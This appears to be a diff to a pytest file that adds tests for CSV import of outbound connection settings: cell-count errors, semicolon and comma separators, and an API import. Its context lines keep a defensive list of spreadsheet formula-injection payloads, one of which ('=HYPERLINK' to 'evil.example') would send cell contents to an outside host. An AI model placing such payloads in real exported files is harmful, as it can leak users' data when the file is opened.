@@ -8,9 +8,10 @@ import io
 
 import pytest
 
-from zato_outconn.admin.tabular import cell, cell_text
+from zato_outconn import ConfigError
+from zato_outconn.admin.tabular import cell, cell_text, document_from_csv
 
-from tests.admin.conftest import API
+from tests.admin.conftest import API, problem_of
 
 FORMULAE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(1)', '\uff1dA1', "'=quoted", "'plain"]
 
@@ -44,3 +45,46 @@ def test_the_outconn_and_security_lists_as_csv_are_defused(sqlite_api: API) -> N
     # Accept: text/csv is the same list as ?format=csv.
     accepted = api.get('/api/v1/outconns', headers={'Accept': 'text/csv'}).get_data(as_text=True)
     assert _cells(accepted) == _cells(api.get('/api/v1/outconns?format=csv').get_data(as_text=True))
+
+
+HEADER = 'kind,name,host,url_path'
+
+
+def _outconns(text: str) -> list[dict[str, str]]:
+    return list(document_from_csv(text)['outconns'])
+
+
+def test_a_row_with_more_cells_than_columns_is_refused_naming_the_row() -> None:
+    text = f'{HEADER}\r\noutconn,A,http://a.example.com,/a\r\noutconn,B,http://b.example.com,/b,extra,more\r\n'
+    with pytest.raises(ConfigError) as refused:
+        document_from_csv(text)
+    assert refused.value.field == 'file'
+    assert refused.value.rule.startswith('row 3 has 2 more cell(s) than the first row names columns (4)')
+    # Fewer cells than columns leave the settings past them unset, as before.
+    assert _outconns(f'{HEADER}\r\noutconn,A,http://a.example.com\r\n') == [
+        {'name': 'A', 'host': 'http://a.example.com'}]
+
+
+@pytest.mark.parametrize('text', [
+    'kind;name;host;retry_on_status\r\noutconn;A;http://a.example.com;"429,503"\r\n',
+    'sep=;\r\nkind;name;host;retry_on_status\r\noutconn;A;http://a.example.com;"429,503"\r\n',
+    'sep=,\nkind,name,host,retry_on_status\noutconn,A,http://a.example.com,"429,503"\n',
+    'kind,name,host,retry_on_status\noutconn,A,http://a.example.com,"429,503"\n',
+])
+def test_cells_separated_by_semicolons_or_commas_are_read_alike(text: str) -> None:
+    assert _outconns(text) == [{'name': 'A', 'host': 'http://a.example.com',
+                                'retry_on_status': '429,503'}]
+
+
+def test_a_semicolon_csv_row_with_cells_past_the_header_names_its_row_after_a_sep_line() -> None:
+    with pytest.raises(ConfigError, match=r"^file: row 4 has 1 more cell\(s\).*holds a ';'"):
+        document_from_csv('sep=;\nkind;name\noutconn;A\noutconn;B;C\n')
+
+
+def test_the_api_imports_a_semicolon_csv(sqlite_api: API) -> None:
+    data = 'kind;name;host;read_timeout\r\noutconn;CRM;http://crm.example.com;12.5\r\n'
+    answer = sqlite_api.post('/api/v1/import', data=data.encode('utf-8-sig'), content_type='text/csv')
+    assert answer.status_code == 200, answer.get_data(as_text=True)
+    assert sqlite_api.store.get_outconn('plain_http', 'CRM').config.read_timeout == 12.5
+    refused = sqlite_api.post('/api/v1/import', data='kind;name\noutconn;A;B\n', content_type='text/csv')
+    assert 'row 2' in problem_of(refused, 422)['errors'][0]['message']
